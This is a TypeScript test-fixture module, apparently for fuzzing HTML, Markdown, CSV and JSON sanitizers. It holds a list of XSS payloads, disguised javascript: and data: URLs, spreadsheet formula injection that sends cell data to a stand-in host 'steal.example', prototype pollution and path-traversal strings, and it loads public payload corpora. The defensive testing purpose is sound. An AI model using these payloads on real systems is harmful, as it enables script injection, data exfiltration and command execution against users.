// What is tried at every door: words of our own that want to run, ask or break, and, where they lie
// beside the repository, the public collections of such words.
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'

/** A collection, and what is in it. */
export interface Collection {
  readonly name: string
  readonly inputs: readonly string[]
}

const RUN = 'alert(1)'
const ASK = 'https://steal.example/x'

/** Our own: small, and of every kind that the doors have to know. */
export const OWN: Collection = {
  name: 'our own',
  inputs: [
    `<script>${RUN}</script>`,
    `<img src=x onerror=${RUN}>`,
    `<svg onload=${RUN}><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
    `<iframe src="javascript:${RUN}"></iframe>`,
    `<object data="data:text/html,<script>${RUN}</script>"></object>`,
    `<link rel=stylesheet href=${ASK}.css><style>@import url(${ASK});</style>`,
    `<img srcset="${ASK} 1x"><video poster=${ASK}><audio src=${ASK}>`,
    `<meta http-equiv=refresh content="0;url=${ASK}"><base href=${ASK}>`,
    `<form action=${ASK}><button autofocus onfocus=${RUN}>go</button></form>`,
    `<a href="javascript:${RUN}">a</a> <a href="\u0001java\tscript:${RUN}">b</a>`,
    `<a href=" &#x6a;avascript:${RUN}">c</a> <a href="vbscript:msgbox(1)">d</a>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<template><script>${RUN}</script></template><textarea></textarea><img src=x onerror=${RUN}>`,
    `"><img src=x onerror=${RUN}>' onmouseover='${RUN}`,
    `{{constructor.constructor('${RUN}')()}} \${${RUN}} #{${RUN}} <%= ${RUN} %>`,
    `[click](javascript:${RUN}) ![picture](${ASK}.png) <${ASK}> [ref]: data:text/html,x`,
    `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
    `=HYPERLINK("${ASK}?"&A1,"open") @SUM(1+1)*cmd|' /C calc'!A0`,
    `+1+1-cmd|' /C calc'!A0`,
    '\u202eright to left\u2066 and \u2028 more \u2029 lines',
    '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
    `${'<b>'.repeat(300)}deep${'</b>'.repeat(300)}`,
    `${'['.repeat(500)}${'*_'.repeat(500)}`,
    `../../../etc/passwd %2e%2e%2f ${'A'.repeat(5_000)}`,
    '\ud800 half a character \udc00, Z\u0351\u036b\u0343\u036a\u0302\u036balgo',
  ],
}

/** Addresses that no reader should be led to, plain and in disguise. */
export const ADDRESSES: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' \tjavascript:alert(1)',
  'java\tscript:alert(1)',
  'java\u0000script:alert(1)',
  '\u0001javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  'javascript://example.org/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'DATA:text/html;base64,PHNjcmlwdD4=',
  'vbscript:msgbox(1)',
  'blob:https://example.org/1',
  'filesystem:https://example.org/temporary/x',
  'view-source:javascript:alert(1)',
  'file:///etc/passwd',
  'about:blank',
  'ws://example.org/',
  'intent://example.org#Intent;scheme=javascript;end',
  'feed:javascript:alert(1)',
  'https:javascript:alert(1)',
  'https://user:secret@example.org/',
  '#',
  '//',
]

const CORPORA = process.env['CLAIMBENCH_HOSTILE_DATA']

/** The public collections; empty where they are not asked for. */
export async function collections(): Promise<readonly Collection[]> {
  if (CORPORA === undefined) return []
  const read = (path: string) => readFileSync(join(CORPORA, path), 'utf8')
  const list = (path: string) => JSON.parse(read(path)) as string[]
  const fixtures = (await import(pathToFileURL(join(CORPORA, 'dompurify/expect.mjs')).href)) as {
    default: { payload: string; expected: string | string[] }[]
  }
  const json = join(CORPORA, 'json/test_parsing')
  return [
    {
      name: 'DOMPurify',
      inputs: fixtures.default.flatMap(({ payload, expected }) => [payload, expected].flat()),
    },
    { name: 'H5SC', inputs: read('h5sc/vectors.txt').split(/(?=<div id="\d+">)/) },
    { name: 'naughty strings', inputs: list('blns/blns.json') },
    { name: 'PATT XSS', inputs: list('patt/xss.json') },
    { name: 'PATT CSV', inputs: list('patt/csv.json') },
    { name: 'html5lib', inputs: html5lib(join(CORPORA, 'html5lib')) },
    {
      name: 'CommonMark',
      inputs: [...read('commonmark/spec.txt').matchAll(/^`{32} example\n([\s\S]*?)^`{32}$/gm)].map(
        ([, example = '']) => example.replaceAll('→', '\t'),
      ),
    },
    {
      name: 'JSONTestSuite',
      inputs: existsSync(json)
        ? readdirSync(json).map(name => readFileSync(join(json, name), 'latin1'))
        : [],
    },
  ].map(({ name, inputs }) => ({ name, inputs: inputs.filter(input => input.trim() !== '') }))
}

function html5lib(folder: string): string[] {
  const tokens = readdirSync(join(folder, 'tokenizer'))
    .filter(name => name.endsWith('.test'))
    .flatMap(name => {
      const file = JSON.parse(readFileSync(join(folder, 'tokenizer', name), 'utf8')) as {
        tests?: { input: string }[]
      }
      return (file.tests ?? []).map(({ input }) => input)
    })
  const pages = readdirSync(join(folder, 'serializer')).flatMap(name => {
    const file = JSON.parse(readFileSync(join(folder, 'serializer', name), 'utf8')) as {
      tests: { expected: string[] }[]
    }
    return file.tests.flatMap(({ expected }) => expected)
  })
  return [...tokens, ...pages]
}

/** The words without halves of characters, which no UTF-8 can hold. */
export function wellFormed(words: string): string {
  return words.replace(/\p{Surrogate}/gu, '\ufffd')
}

const PLAIN =
  'The harbour office paid 31 million crowns for two ferries in 2019, and the council said so in May. '

/** Words that mean nobody harm, as many UTF-16 units as the given ones. */
export function plainWords(words: string): string {
  return PLAIN.repeat(Math.ceil(words.length / PLAIN.length)).slice(0, words.length)
}

/** Inputs in bundles, each about `length` UTF-16 units. */
export function bundled(inputs: readonly string[], length = 20_000): string[][] {
  const bundles: string[][] = []
  let size = length
  for (const input of inputs) {
    if (size + input.length > length) {
      bundles.push([])
      size = 0
    }
    bundles.at(-1)?.push(input)
    size += input.length
  }
  return bundles
}
